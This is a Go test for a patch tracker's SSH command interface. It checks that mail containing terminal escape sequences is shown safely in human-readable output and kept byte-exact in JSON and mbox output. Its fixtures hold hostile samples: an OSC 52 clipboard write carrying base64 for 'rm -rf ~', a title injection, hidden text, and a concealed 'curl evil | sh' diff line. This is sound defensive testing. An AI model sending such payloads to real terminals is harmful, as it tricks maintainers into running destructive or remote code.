package ssh

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/patchwork-go/patchwork/server/mbox"
	"github.com/patchwork-go/patchwork/store"
	"github.com/patchwork-go/patchwork/store/sqlstore/sqltest"
)

// Mail that tries to take over the maintainer's terminal: set the window
// title, write the clipboard (OSC 52), clear the screen with a C1 CSI,
// and hide text on a diff line with a carriage return.
const (
	hostileSubject = "frob: fix\x1b]0;owned\x07 \u009b2J"
	hostileName    = "Eve \x1b]52;c;cm0gLXJmIH4K\x07Evil"
	hostileBody    = "Looks harmless.\x1b[8m hidden \x1b[0m\n\nSigned-off-by: Eve <eve@example.org>\n"
	hostileDiff    = "diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1 +1 @@\n-a\n+curl evil | sh\rb\n"
)

// terminalSafe fails unless out holds no byte a terminal would act on:
// ESC, BEL, C1 controls (as UTF-8), or a carriage return not before a
// line feed.
func terminalSafe(t *testing.T, what, out string) {
	t.Helper()
	for i, r := range out {
		bad := r == 0x1b || r == 0x07 || (r >= 0x80 && r < 0xa0) || r == utf8.RuneError ||
			(r == '\r' && !strings.HasPrefix(out[i+1:], "\n"))
		if bad {
			t.Errorf("%s: control %U at %d: %q", what, r, i, out[max(0, i-20):min(len(out), i+20)])
			return
		}
	}
}

// TestHostileMailOnTheCommandLine: every human-readable output shows mail's
// control characters visibly; --json and mbox stay byte-exact.
func TestHostileMailOnTheCommandLine(t *testing.T) {
	st := sqltest.SQLite(t)
	f := newFixture(t, st)
	ctx := context.Background()
	eve, err := st.UpsertPerson(ctx, "eve@example.org", hostileName, false)
	if err != nil {
		t.Fatal(err)
	}
	ser := &store.Series{ProjectID: f.projA.ID, Name: hostileSubject, Date: testClock.Add(-time.Minute), SubmitterID: eve.ID, Version: 1, Total: 1}
	if err := st.CreateSeries(ctx, ser); err != nil {
		t.Fatal(err)
	}
	p := &store.Patch{ProjectID: f.projA.ID, MsgID: "<evil@example.org>", Name: hostileSubject, Date: testClock.Add(-time.Minute),
		SubmitterID: eve.ID, Headers: "From: Eve <eve@example.org>\nSubject: [PATCH] frob: fix\n", Content: hostileBody, Diff: hostileDiff,
		StateID: mustState(t, f.states, "new").ID, SeriesID: ser.ID, Number: 1}
	if err := st.CreatePatch(ctx, p, nil); err != nil {
		t.Fatal(err)
	}
	srv := startServer(t, st, nil)
	id := itoa(p.ID)

	show := run(t, srv, f.maintAKey, "", "show "+id).ok(t, "show")
	terminalSafe(t, "show", show.out)
	for _, want := range []string{"frob: fix^[]0;owned^G M-^[2J", "Eve ^[]52;c;cm0gLXJmIH4K^GEvil", "^[[8m hidden ^[[0m", "+curl evil | sh^Mb"} {
		if !strings.Contains(show.out, want) {
			t.Errorf("show lacks %q:\n%s", want, show.out)
		}
	}
	list := run(t, srv, f.maintAKey, "", "list alpha").ok(t, "list")
	terminalSafe(t, "list", list.out)
	if !strings.Contains(list.out, "^[]0;owned^G") {
		t.Errorf("list does not show the subject's escape visibly:\n%s", list.out)
	}
	series := run(t, srv, f.maintAKey, "", "series "+itoa(ser.ID)).ok(t, "series")
	terminalSafe(t, "series", series.out)
	if !strings.Contains(series.out, "^[]0;owned^G") {
		t.Errorf("series does not show the name's escape visibly:\n%s", series.out)
	}
	// An error message quoting the client's own argument is shown safe too.
	bad := run(t, srv, f.maintAKey, "", "show 'x\x1b]0;t\x07'")
	terminalSafe(t, "error", bad.err)

	// Machine-readable outputs are left alone.
	var rows []patchJSON
	js := run(t, srv, f.maintAKey, "", "list alpha --json").ok(t, "list --json")
	if err := json.Unmarshal([]byte(js.out), &rows); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range rows {
		if r.ID == p.ID {
			found = r.Name == hostileSubject && r.Submitter.Name == hostileName
		}
	}
	if !found {
		t.Errorf("list --json does not give the subject and name as stored:\n%s", js.out)
	}
	var want bytes.Buffer
	if err := mbox.WritePatch(ctx, &want, st, p.ID); err != nil {
		t.Fatal(err)
	}
	if got := run(t, srv, f.maintAKey, "", "mbox "+id).ok(t, "mbox").out; got != want.String() {
		t.Errorf("mbox over SSH differs from the mbox writer's output:\n%q\n%q", got, want.String())
	}
	if !strings.Contains(want.String(), "\x1b[8m hidden") {
		t.Errorf("the mbox lost the body's bytes")
	}
}
